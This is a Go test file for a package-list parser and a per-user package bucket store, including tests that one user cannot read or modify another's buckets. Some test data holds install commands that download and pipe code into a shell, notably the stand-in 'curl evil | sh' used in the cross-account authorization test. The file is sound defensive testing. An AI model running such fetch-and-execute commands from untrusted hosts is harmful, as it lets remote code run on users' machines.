package store

import (
	"errors"
	"reflect"
	"strings"
	"testing"
)

const aptHint = "Debian package names use lower-case letters, digits, '+', '-' and '.', e.g. curl or nodejs=24.*"

func TestParsePackageList(t *testing.T) {
	tests := []struct {
		name     string
		m        PackageManager
		text     string
		want     []Package
		problems []string
	}{
		{"comments and blanks", ManagerApt, "# base\ncurl\n\n  wget  # fetch\n// note\njq#not-a-comment\n", []Package{
			{Manager: ManagerApt, Name: "curl"}, {Manager: ManagerApt, Name: "wget"},
		}, []string{`line 6: "jq#not-a-comment" is not a valid apt package name: ` + aptHint}},
		{"versions, architectures and releases", ManagerApt, "nodejs=24.* libc6:i386 g++ foo/bookworm-backports bar=1:2.3-1+deb12u1", []Package{
			{Manager: ManagerApt, Name: "nodejs=24.*"}, {Manager: ManagerApt, Name: "libc6:i386"}, {Manager: ManagerApt, Name: "g++"},
			{Manager: ManagerApt, Name: "foo/bookworm-backports"}, {Manager: ManagerApt, Name: "bar=1:2.3-1+deb12u1"},
		}, nil},
		// Bug 15: a line is one package list, taken whole or not at all.
		{"a bad word spoils its line", ManagerApt, "bad pkg name!\ncurl\nName!", []Package{{Manager: ManagerApt, Name: "curl"}},
			[]string{`line 1 "bad pkg name!": "name!" is not a valid apt package name: ` + aptHint,
				`line 3: "Name!" is not a valid apt package name: ` + aptHint}},
		{"npm names", ManagerNpm, "@types/node @angular/cli@^17 pnpm@latest JSONStream\nbad!", []Package{
			{Manager: ManagerNpm, Name: "@types/node"}, {Manager: ManagerNpm, Name: "@angular/cli@^17"},
			{Manager: ManagerNpm, Name: "pnpm@latest"}, {Manager: ManagerNpm, Name: "JSONStream"},
		}, []string{`line 2: "bad!" is not a valid npm package name: npm names look like typescript, typescript@5 or @scope/name`}},
		{"pip names", ManagerPip, "black[jupyter]>=24 Django>=4.2,<5 requests\nrequests;", []Package{
			{Manager: ManagerPip, Name: "black[jupyter]>=24"}, {Manager: ManagerPip, Name: "Django>=4.2,<5"}, {Manager: ManagerPip, Name: "requests"},
		}, []string{`line 2: "requests;" is not a valid pip package name: pip requirements look like requests, requests==2.32 or black[jupyter]>=24`}},
		{"custom names", ManagerCustom, "bad name!|true|make", nil,
			[]string{`line 1: Package name "bad name!" must not contain spaces`}},
		{"several per line", ManagerNpm, "typescript@5 pnpm\r\n", []Package{
			{Manager: ManagerNpm, Name: "typescript@5"}, {Manager: ManagerNpm, Name: "pnpm"},
		}, nil},
		{"versions stay in the name", ManagerPip, "requests==2.28.0\n", []Package{{Manager: ManagerPip, Name: "requests==2.28.0"}}, nil},
		{"custom", ManagerCustom, "# name|check|install\nbun|command -v bun|curl -fsSL https://bun.sh/install | bash # installer\n", []Package{
			{Manager: ManagerCustom, Name: "bun", Check: "command -v bun", Install: "curl -fsSL https://bun.sh/install | bash # installer"},
		}, nil},
		{"custom without check", ManagerCustom, "x||make install", []Package{{Manager: ManagerCustom, Name: "x", Install: "make install"}}, nil},
		{"custom malformed", ManagerCustom, "ok|c|i\nonly-name\n|c|i", []Package{{Manager: ManagerCustom, Name: "ok", Check: "c", Install: "i"}},
			[]string{"line 2: write custom packages as name|check command|install command", "line 3: write custom packages as name|check command|install command"}},
		{"bad apt names", ManagerApt, "good\n-o\na|b", []Package{{Manager: ManagerApt, Name: "good"}},
			[]string{`line 2: Package "-o" must not start with '-'`, `line 3: Package "a|b": only custom packages use name|check|install`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, problems := ParsePackageList(tt.m, tt.text)
			if !reflect.DeepEqual(got, tt.want) || !reflect.DeepEqual(problems, tt.problems) {
				t.Errorf("got %+v %q\nwant %+v %q", got, problems, tt.want, tt.problems)
			}
			// What FormatPackageList writes parses back the same.
			again, _ := ParsePackageList(tt.m, FormatPackageList(got))
			if !reflect.DeepEqual(again, got) {
				t.Errorf("format/parse round trip: %+v, want %+v", again, got)
			}
		})
	}
}

func TestDB_PackageBuckets(t *testing.T) {
	ctx := t.Context()
	db, _ := mustOpen(t)
	alice, bob := mustUser(t, db, "alice"), mustUser(t, db, "bob")
	base, err := db.CreatePackageBucket(ctx, alice.ID, " base ", "everyday tools")
	if err != nil {
		t.Fatal(err)
	}
	if base.Name != "base" || base.ID == "" {
		t.Errorf("created %+v", base)
	}
	if _, err := db.CreatePackageBucket(ctx, alice.ID, "Alpha", ""); err != nil {
		t.Fatal(err)
	}

	t.Run("ErrConflict", func(t *testing.T) {
		_, err := db.CreatePackageBucket(ctx, alice.ID, "BASE", "")
		var v *ValidationError
		if !errors.As(err, &v) || !errors.Is(err, ErrConflict) || v.Fields["name"] != `A bucket named "BASE" already exists` {
			t.Errorf("err = %v", err)
		}
		if _, err := db.RenamePackageBucket(ctx, alice.ID, base.ID, "alpha", ""); !errors.Is(err, ErrConflict) {
			t.Errorf("rename onto alpha: %v", err)
		}
	})
	t.Run("ErrInvalid", func(t *testing.T) {
		for _, tc := range []struct{ name, desc, field, msg string }{
			{"", "", "name", "Name is required"},
			{strings.Repeat("n", 51), "", "name", "Name must be 50 characters or less"},
			{"ok", strings.Repeat("d", 201), "description", "Description must be 200 characters or less"},
		} {
			_, err := db.CreatePackageBucket(ctx, alice.ID, tc.name, tc.desc)
			var v *ValidationError
			if !errors.As(err, &v) || v.Fields[tc.field] != tc.msg {
				t.Errorf("CreatePackageBucket(%q, %q) = %v, want %s: %s", tc.name, tc.desc, err, tc.field, tc.msg)
			}
		}
	})
	t.Run("Rename", func(t *testing.T) {
		got, err := db.RenamePackageBucket(ctx, alice.ID, base.ID, "Base tools", "renamed")
		if err != nil || got.Name != "Base tools" || got.Description != "renamed" || got.ID != base.ID {
			t.Errorf("rename = %+v, %v", got, err)
		}
		list, _ := db.PackageBuckets(ctx, alice.ID)
		if len(list) != 2 || list[0].Name != "Alpha" || list[1].Name != "Base tools" {
			t.Errorf("list = %+v", list)
		}
	})
	t.Run("BulkImport", func(t *testing.T) {
		if _, err := db.AddBucketPackages(ctx, alice.ID, base.ID, Package{Manager: ManagerApt, Name: "curl"}); err != nil {
			t.Fatal(err)
		}
		res, err := db.ImportBucketPackages(ctx, alice.ID, base.ID, ManagerApt, "# tools\ncurl  # already there\nwget\njq\nwget\n-bad\n")
		if err != nil {
			t.Fatal(err)
		}
		if len(res.Added) != 2 || !reflect.DeepEqual(res.Duplicates, []string{"curl", "wget"}) || len(res.Problems) != 1 {
			t.Errorf("result = %+v", res)
		}
		// The same name under another manager is not a duplicate.
		res, err = db.ImportBucketPackages(ctx, alice.ID, base.ID, ManagerNpm, "jq")
		if err != nil || len(res.Added) != 1 {
			t.Errorf("npm jq = %+v, %v", res, err)
		}
		got, _ := db.PackageBucket(ctx, alice.ID, base.ID)
		want := []Package{{ManagerApt, "curl", "", ""}, {ManagerApt, "wget", "", ""}, {ManagerApt, "jq", "", ""}, {ManagerNpm, "jq", "", ""}}
		if !reflect.DeepEqual(got.Packages, want) {
			t.Errorf("packages = %+v", got.Packages)
		}
	})
	t.Run("BulkImportNothingValid", func(t *testing.T) {
		_, err := db.ImportBucketPackages(ctx, alice.ID, base.ID, ManagerApt, "# only comments\n\n")
		var v *ValidationError
		if !errors.As(err, &v) || !strings.HasPrefix(v.Fields["packages"], "No valid package names found") {
			t.Errorf("err = %v", err)
		}
	})
	t.Run("Remove", func(t *testing.T) {
		if err := db.RemoveBucketPackage(ctx, alice.ID, base.ID, ManagerApt, "jq"); err != nil {
			t.Fatal(err)
		}
		if err := db.RemoveBucketPackage(ctx, alice.ID, base.ID, ManagerApt, "jq"); !errors.Is(err, ErrNotFound) {
			t.Errorf("second remove: %v", err)
		}
		got, _ := db.PackageBucket(ctx, alice.ID, base.ID)
		if len(got.Packages) != 3 || got.Packages[2].Manager != ManagerNpm {
			t.Errorf("packages = %+v", got.Packages)
		}
	})
	t.Run("OtherAccount", func(t *testing.T) {
		// Bob sees none of alice's buckets and may touch none of them; his
		// own "base" does not clash with hers.
		if list, _ := db.PackageBuckets(ctx, bob.ID); len(list) != 0 {
			t.Errorf("bob lists %+v", list)
		}
		if _, err := db.PackageBucket(ctx, bob.ID, base.ID); !errors.Is(err, ErrNotFound) {
			t.Errorf("bob reads alice's bucket: %v", err)
		}
		if _, err := db.RenamePackageBucket(ctx, bob.ID, base.ID, "mine", ""); !errors.Is(err, ErrNotFound) {
			t.Errorf("bob renames it: %v", err)
		}
		if _, err := db.AddBucketPackages(ctx, bob.ID, base.ID, Package{Manager: ManagerCustom, Name: "x", Install: "curl evil | sh"}); !errors.Is(err, ErrNotFound) {
			t.Errorf("bob adds a custom package to it: %v", err)
		}
		if _, err := db.ImportBucketPackages(ctx, bob.ID, base.ID, ManagerApt, "evil"); !errors.Is(err, ErrNotFound) {
			t.Errorf("bob imports into it: %v", err)
		}
		if err := db.RemoveBucketPackage(ctx, bob.ID, base.ID, ManagerApt, "curl"); !errors.Is(err, ErrNotFound) {
			t.Errorf("bob removes from it: %v", err)
		}
		if err := db.DeletePackageBucket(ctx, bob.ID, base.ID); !errors.Is(err, ErrNotFound) {
			t.Errorf("bob deletes it: %v", err)
		}
		if _, err := db.CreatePackageBucket(ctx, bob.ID, "Base tools", ""); err != nil {
			t.Errorf("bob's own bucket of the same name: %v", err)
		}
		if got, _ := db.PackageBucket(ctx, alice.ID, base.ID); got.Name != "Base tools" || len(got.Packages) != 3 {
			t.Errorf("alice's bucket after bob's tries: %+v", got)
		}
		if _, err := db.CreatePackageBucket(ctx, "no-such-user", "x", ""); !errors.Is(err, ErrNotFound) {
			t.Errorf("bucket for a missing account: %v", err)
		}
	})
	t.Run("Delete", func(t *testing.T) {
		if err := db.DeletePackageBucket(ctx, alice.ID, base.ID); err != nil {
			t.Fatal(err)
		}
		if _, err := db.PackageBucket(ctx, alice.ID, base.ID); !errors.Is(err, ErrNotFound) {
			t.Errorf("after delete: %v", err)
		}
		if err := db.DeletePackageBucket(ctx, alice.ID, base.ID); !errors.Is(err, ErrNotFound) {
			t.Errorf("second delete: %v", err)
		}
		if _, err := db.AddBucketPackages(ctx, alice.ID, base.ID, Package{Manager: ManagerApt, Name: "x"}); !errors.Is(err, ErrNotFound) {
			t.Errorf("add to deleted: %v", err)
		}
	})
}

func TestMergePackages(t *testing.T) {
	a := Package{Manager: ManagerApt, Name: "curl"}
	b := Package{Manager: ManagerNpm, Name: "curl"}
	got := MergePackages([]Package{a}, b, a, b)
	if !reflect.DeepEqual(got, []Package{a, b}) {
		t.Errorf("MergePackages = %+v", got)
	}
}
